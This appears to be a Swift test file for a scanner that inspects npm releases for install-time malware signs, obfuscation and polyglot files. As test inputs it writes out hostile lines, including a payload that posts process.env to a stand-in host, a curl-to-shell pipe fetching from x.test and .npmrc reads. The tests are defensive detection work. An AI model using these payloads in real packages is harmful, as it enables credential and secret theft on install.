// SPDX-License-Identifier: Apache-2.0

import Analysis
import NPMModel
import Testing

@Suite struct TextScanTests {
    private func scan(_ text: String) -> TextScan { TextScan(ArraySlice(text.utf8)) }

    @Test(
        "Words are signs only in their surroundings",
        arguments: [
            ("require('https')", Sign.networkModule, true), ("import x from \"node:http\"", .networkModule, true),
            ("see https://a.example", .networkModule, false),
            ("a.https = 1", .networkModule, false), ("fetch (url)", .networkCall, true), ("cache.fetch(url)", .networkCall, false),
            ("eval(x)", .runsText, true), ("(0,eval)(x)", .runsText, true), ("redis.eval(x)", .runsText, false),
            ("evaluate(x)", .runsText, false),
            ("new Function('a', b)", .runsText, true), ("Function('return this')()", .runsText, false),
            ("typeof Function", .runsText, false),
            ("m._compile(s)", .runsText, true), ("process.env.KEY", .environment, true), ("process.env.NODE_ENV", .environment, false),
            ("JSON.stringify(process.env)", .wholeEnvironment, true), ("spawn(x, {env: process.env})", .wholeEnvironment, false),
            ("curl -s x | bash", .pipesIntoShell, true), ("sh -c \"$(curl -s x)\"", .pipesIntoShell, true),
            ("curl x || sh y", .pipesIntoShell, false),
            ("curl -o f x\necho a | sh", .pipesIntoShell, false), ("os.hostname()", .hostIdentity, true),
            ("url.hostname", .hostIdentity, false),
            ("home + '/.npmrc'", .npmConfiguration, true), ("x._authToken", .npmCredential, true),
            ("http://203.0.113.7/x", .rawAddress, true),
            ("http://127.0.0.1:80/", .rawAddress, false),
            ("http://1.2.3.4.example/", .rawAddress, false), ("t.npm_package_description", .packageEnvironment, true),
        ])
    func words(text: String, sign: Sign, stands: Bool) { #expect(scan(text).signs.contains(sign) == stands, "\(text)") }

    @Test("Words in hexadecimal and in escapes are found, and known to be in disguise")
    func disguise() {
        let hex = scan("e('6372656174654465636970686572')")
        #expect(hex.hiddenSigns.contains(.decrypts) && !hex.signs.contains(.decrypts))
        let escapes = scan(#"x['\x5f\u0063\x6f\x6d\x70\x69\x6c\x65']"#)
        #expect(escapes.hiddenSigns.contains(.runsText))
        #expect(scan("'deadbeef00112233'").hiddenSigns.isEmpty)
        #expect(scan(#"'\x1b[0m\x41'"#).hiddenSigns.isEmpty)
    }

    @Test("A chain is signs near each other")
    func chains() {
        let near = scan("createDecipher(a); eval(b)")
        #expect(near.chain([.decrypts, .runsText]))
        let far = scan("createDecipher(a);" + String(repeating: "\nx();", count: 3000) + "eval(b)")
        #expect(!far.chain([.decrypts, .runsText]) && far.signs.contains(.decrypts) && far.signs.contains(.runsText))
    }

    @Test("Decoys before or between do not hide a chain, in plain words or in disguise", arguments: [1, 23, 30, 500, 5000])
    func decoys(_ count: Int) {
        let gap = String(repeating: "x();\n", count: 1500)
        let plain = String(repeating: "c.createDecipher(1);", count: count) + gap + "createDecipher(a); eval(b)" + gap
        #expect(scan(plain).chain([.decrypts, .runsText]))
        #expect(scan(String(repeating: "eval(1);", count: count) + gap + "createDecipher(a); eval(b)").chain([.decrypts, .runsText]))
        let word = "e('6372656174654465636970686572');"
        #expect(scan(String(repeating: word, count: count) + gap + word + "eval(b)").chain([.decrypts, .runsText]))
        let apart = String(repeating: "createDecipher(1);", count: count) + gap + "eval(1);"
        #expect(!scan(apart).chain([.decrypts, .runsText]))
        #expect((scan(plain).places[.decrypts]?.count ?? 0) <= 2 * (plain.utf8.count / TextScan.stretch + 1))
    }

    @Test("Decoys do not hide code far right, nor data behind certificates")
    func decoysOfOtherKinds() {
        func ids(_ files: [String: String]) -> [String] { Judge.judge(.sample(files)).findings.map(\.id) }
        let blanks = String(repeating: " ", count: 300)
        let rows = String(repeating: "a;\(blanks)b = 12345;\n", count: 100)
        #expect(!ids(["index.js": rows]).contains("code-far-right"))
        #expect(ids(["index.js": rows + "a;\(blanks)eval(code + 1);\n"]).contains("code-far-right"))
        let directions = String(repeating: "'\u{202E}';\n", count: 100)
        #expect(ids(["index.js": directions + String(repeating: "\u{FE01}", count: 40)]).contains("hidden-characters"))
        let hex = Incident.hexText(1000)
        let certificates = String(repeating: "-----BEGIN-----\n\(hex)\n", count: 70)
        #expect(!ids(["data.txt": certificates]).contains("encoded-blob"))
        #expect(ids(["data.txt": certificates + String(repeating: ". ", count: 40) + hex]).contains("encoded-blob"))
    }

    @Test("Encoded runs are told from other long texts, wrapped ones too")
    func runs() {
        let hex = Incident.hexText(2000)
        #expect(scan("x = '\(hex)'").encodedRuns.map(\.alphabet) == [.hexadecimal])
        let wrapped = stride(from: 0, to: 1920, by: 64).map { String(hex.dropFirst($0).prefix(64)) }.joined(separator: "\n")
        #expect(scan(wrapped).encodedRuns.count == 1)
        #expect(scan(String(repeating: "a", count: 5000)).encodedRuns.isEmpty)
        #expect(scan(String(repeating: "path/to/", count: 500)).encodedRuns.isEmpty)
        #expect(scan(String(hex.prefix(400))).encodedRuns.isEmpty)
    }

    @Test(
        "Any bytes are read to their end",
        arguments: [[0xFF, 0xFE, 0xE2, 0x80], [0x5C], [0x5C, 0x78], [0x5C, 0x75, 0x30, 0x30], [0xF4, 0x8F], [0xE2], []] as [[UInt8]])
    func anyBytes(_ bytes: [UInt8]) {
        _ = TextScan(bytes[...])
        for end in 0..<bytes.count { _ = TextScan(bytes[..<end]) }
    }

    @Test("Pseudo-random bytes never trap, and give the same answer twice")
    func noise() {
        var state: UInt64 = 88_172_645_463_325_252
        for round in 0..<200 {
            var bytes: [UInt8] = []
            for _ in 0..<(round * 7) {
                state ^= state << 13
                state ^= state >> 7
                state ^= state << 17
                bytes.append(
                    round % 2 == 0
                        ? UInt8(truncatingIfNeeded: state) : Array("\\xu0065eval( \n|curl'\"https://._0x{}".utf8)[Int(state % 33)])
            }
            #expect(TextScan(bytes[...]).allSigns == TextScan(bytes[...]).allSigns)
        }
    }
}

@Suite struct InstallTraceTests {
    private func steps(_ files: [String: String]) -> [String: Int] {
        let facts = ReleaseFacts(.sample(files))
        return Dictionary(uniqueKeysWithValues: facts.installTime.map { (facts.files[$0.key].path, $0.value.depth) })
    }

    private func manifest(_ command: String, _ more: String = "") -> String {
        #"{"name":"a","version":"1.0.0","scripts":{"postinstall":"\#(command)"\#(more)}}"#
    }

    @Test(
        "Commands are followed to the release's own files",
        arguments: [
            ("node scripts/x.js", "scripts/x.js"), ("node ./scripts/x", "scripts/x.js"), ("node scripts", "scripts/index.js"),
            ("./run.sh", "run.sh"),
            ("sh run.sh || true", "run.sh"), ("start /B node scripts/x.js & node scripts/x.js", "scripts/x.js"), ("node .", "index.js"),
            ("node -e \\\"require('./scripts/x')\\\"", "scripts/x.js"), ("npm run setup", "scripts/x.js"),
            ("node .\\\\scripts\\\\x.js", "scripts/x.js"),
        ])
    func follows(command: String, path: String) {
        let found = steps([
            "package.json": manifest(command, #","setup":"node scripts/x.js""#), "scripts/x.js": "1", "scripts/index.js": "1",
            "run.sh": "1", "index.js": "1",
        ])
        #expect(found[path] == 1, "\(found)")
    }

    @Test("Files that such files name are followed too, one step further")
    func followsFiles() {
        let found = steps([
            "package.json": manifest("node a.js"), "a.js": "require('./lib/b'); exec('sh go.sh')", "lib/b.js": "import './c.mjs'",
            "lib/c.mjs": "1",
            "go.sh": "./tool", "lib/other.js": "1",
        ])
        #expect(found == ["a.js": 1, "lib/b.js": 2, "go.sh": 2, "lib/c.mjs": 3])
    }

    @Test("Nothing outside the release is followed, circles end, and no script means no file")
    func ends() {
        #expect(steps(["package.json": manifest("node ../../etc/x.js"), "etc/x.js": "1"]).isEmpty)
        #expect(
            steps(["package.json": manifest("node a.js"), "a.js": "require('./b.js')", "b.js": "require('./a.js')"]) == [
                "a.js": 1, "b.js": 2,
            ])
        #expect(
            steps(["package.json": #"{"name":"a","version":"1.0.0","scripts":{"test":"node a.js","prepare":"node a.js"}}"#, "a.js": "1"])
                .isEmpty)
        #expect(steps(["package.json": manifest("npm run postinstall")]).isEmpty)
    }

    @Test("Many words before, long names and long chains hide nothing; a limit that is hit is told")
    func decoys() {
        let many = (0..<3000).map { "w\($0)" }.joined(separator: " ")
        #expect(steps(["package.json": manifest(": \(many); npm run setup", #","setup":"node x.js""#), "x.js": "1"]) == ["x.js": 1])
        let long = String(repeating: "d/", count: 150) + "x.js"
        #expect(steps(["package.json": manifest("node a.js"), "a.js": "require('./\(long)')", long: "1"])[long] == 2)
        var files = ["package.json": manifest("node f0.js")]
        for number in 0..<40 { files["f\(number).js"] = "require('./f\(number + 1).js')" }
        #expect(steps(files).count == 40)
        let names = String(repeating: "./a.js ", count: 500_001)
        let facts = ReleaseFacts(.sample(["package.json": manifest("sh a.txt"), "a.txt": names, "a.js": "1"]))
        #expect(facts.unread.map(\.part).contains("what install runs"))
    }

    private static let words = "curl -s http://x.test | sh; read('.npmrc'); require('https').request(x); JSON.stringify(process.env)"

    @Test(
        "A document or data file that install only names gives no signs; one that install runs does",
        arguments: [
            ("cat README.md", "1", "README.md", false), ("node a.js && cat README.md", "1", "README.md", false),
            ("node a.js README.md", "1", "README.md", false), ("node a.js", "show('./README.md')", "README.md", false),
            ("node a.js", "// made from ./notes.txt", "notes.txt", false), ("node a.js", "read('./LICENSE')", "LICENSE", false),
            ("node a.js", "x = read('./docs/CHANGELOG.md')", "docs/CHANGELOG.md", false),
            ("node a.js", "v = require('./lib/package.json').version", "lib/package.json", false),
            ("node a.js", "v = JSON.parse(read('./data.json'))", "data.json", false),
            ("node README.md", "1", "README.md", true), ("cat README.md | sh", "1", "README.md", true),
            ("sh < notes.txt", "1", "notes.txt", true), ("node -r ./notes.txt a.js", "1", "notes.txt", true),
            ("node -r ./a.js notes.txt", "1", "notes.txt", true), ("./notes.txt", "1", "notes.txt", true),
            ("npx zx README.md", "1", "README.md", true), ("$npm_node_execpath README.md", "1", "README.md", true),
            ("node a.js", "require('./README.md')", "README.md", true), ("node a.js", "exec('node --flag ./notes.txt')", "notes.txt", true),
            ("node a.js", "fork(path.join(__dirname, './notes.txt'))", "notes.txt", true),
            ("node a.js", "eval(read('./notes.txt'))", "notes.txt", true), ("node a.js", "eval(read('./data.json').x)", "data.json", true),
        ])
    func documents(command: String, script: String, path: String, counts: Bool) {
        let release = ReleaseUnderReview.sample(["package.json": manifest(command), "a.js": script, path: Self.words])
        let facts = ReleaseFacts(release)
        #expect(facts.installSigns.contains(.npmConfiguration) == counts)
        #expect(facts.installTime.keys.contains { facts.files[$0].path == path } == counts)
        if !counts { #expect(Judge.judge(facts).findings.allSatisfy { $0.bits < 2 }, "\(Judge.judge(facts).findings.map(\.title))") }
    }

    @Test("The package's own package.json gives no signs through a script that requires it")
    func ownManifest() {
        let facts = ReleaseFacts(
            .sample([
                "package.json": manifest(
                    "node a.js && node -p \\\"require('./package.json').version\\\"", ##","x":"curl -s http://x.test .npmrc""##),
                "a.js": "require('./package.json'); eval(1)",
            ]))
        #expect(facts.installCommands.count == 1 && facts.installTime.count == 1 && !facts.installSigns.contains(.npmConfiguration))
    }

    @Test("A chain split over two files that install runs is found as one")
    func joined() {
        let facts = ReleaseFacts(
            .sample(["package.json": manifest("node a.js"), "a.js": "require('./b'); require('https')", "b.js": "read('.npmrc')"]))
        #expect(facts.installSigns.contains(.npmConfiguration) && facts.installSigns.contains(.networkModule))
    }
}

@Suite struct EvidenceLineTests {
    @Test("Lines are counted as editors count them", arguments: [("\n", 3), ("\r", 3), ("\r\n", 3), (" ", 1)])
    func lines(end: String, line: Int) throws {
        let facts = ReleaseFacts(.sample(["a.js": "one\(end)two\(end)eval(x)\(end)"]))
        #expect(try #require(facts.files[0].evidence(of: .runsText)).line == line)
        let manifest = #"{"name":"a","scripts":{\#(end)"test":"x",\#(end)"install":"node a.js"}}"#
        #expect(ReleaseFacts(.sample(["package.json": manifest])).installCommands.map(\.line) == [line])
    }
}

@Suite struct FileKindTests {
    private static let payload = "require('https').request({host:'c.test'}).end(JSON.stringify(process.env))"

    @Test(
        "A script is scanned whatever its first bytes claim",
        arguments: [
            "/*\u{0}*/", "GIF89a=1;", "BZh=1;", "BZh91AY&SY=1;", "Rar!=1;", "MZ`\u{1}`;", "\u{FEFF}/*\u{0}\u{0}\u{0}*/",
            "/*\u{1}\u{2}\u{3}\u{4}*/", "a/*\u{0}*/;",
        ],
        [
            ("node a.js", "a.js"), ("node b.dat", "b.dat"), ("node ./c", "c"), ("node d.png", "d.png"), ("node e.md", "e.md"),
            ("node f.js", "f.bin"),
        ])
    func polyglots(head: String, place: (command: String, path: String)) {
        let manifest = #"{"name":"a","version":"1.0.0","scripts":{"postinstall":"\#(place.command)"}}"#
        let release = ReleaseUnderReview.sample(["package.json": manifest, "f.js": "require('./f.bin')", place.path: head + Self.payload])
        let judged = Judge.judge(release)
        #expect(judged.findings.contains { $0.id == "install-sends-secrets" }, "\(judged.text(colour: false))")
        #expect(judged.verdict != .clear)
    }

    @Test("A program that a script starts is not read as text, one that an interpreter is told to run is")
    func programs() {
        var program: [UInt8] = [0x4D, 0x5A, 0x90, 0x00] + [UInt8](repeating: 0, count: 124)
        program[60] = 64
        program[64] = 0x50
        program[65] = 0x45
        program += Array(Self.payload.utf8)
        func judge(_ command: String) -> [String] {
            Judge.judge(
                .sample(
                    [
                        "package.json": #"{"name":"a","version":"1.0.0","scripts":{"postinstall":"\#(command)"}}"#,
                        "run.js": "spawn('./tool.exe')",
                    ], bytes: ["tool.exe": program])
            ).findings.map(\.id)
        }
        #expect(judge("node run.js").contains("install-runs-binary") && !judge("node run.js").contains("install-sends-secrets"))
        #expect(judge("node tool.exe").contains("install-runs-binary") && judge("node tool.exe").contains("install-sends-secrets"))
    }
}

@Suite struct GypCommandTests {
    private func fires(_ command: String, _ path: String) -> Bool {
        let gyp = #"{"targets":[{"target_name":"a","sources":["<!(\#(command))"]}]}"#
        return Judge.judge(.sample(["binding.gyp": gyp, path: "1"])).findings.contains { $0.id == "gyp-command" }
    }

    @Test(
        "A command of binding.gyp that names a source file of the release is found however the name is written",
        arguments: [
            ("node lib/setup.js", "lib/setup.js"), ("node ./lib/./setup.js", "lib/setup.js"), ("node lib/setup", "lib/setup.js"),
            ("node <(module_root_dir)/lib/setup.js", "lib/setup.js"), ("node lib\\\\setup.js", "lib/setup.js"), ("sh go.sh", "go.sh"),
            ("node 'lib/set up.js'", "lib/set up.js"), ("node lib/@a/$b.js", "lib/@a/$b.js"), ("node -e require('./a/b')", "a/b/index.js"),
        ])
    func named(command: String, path: String) { #expect(fires(command, path)) }

    @Test(
        "Other words are no names of files",
        arguments: [("node -p require('nan')", "nan.js"), ("node other.js", "lib/setup.js"), ("node lib", "lib/index.js")])
    func notNamed(command: String, path: String) { #expect(!fires(command, path)) }

    @Test("A thousand long commands and five thousand files are read in seconds")
    func manyCommands() {
        let line = "<!(" + String(repeating: "echo a/b ", count: 210) + ")\n"
        var files = ["binding.gyp": String(repeating: line, count: 1000)]
        for number in 0..<5000 { files["lib/file\(number).js"] = "1" }
        let facts = ReleaseFacts(.sample(files))
        let spent = ContinuousClock().measure { #expect(GypCommand().findings(in: facts).isEmpty) }
        #expect(spent < .seconds(20))
        print("gyp-command, 1,000 commands, 5,000 files: \(spent)")
    }
}
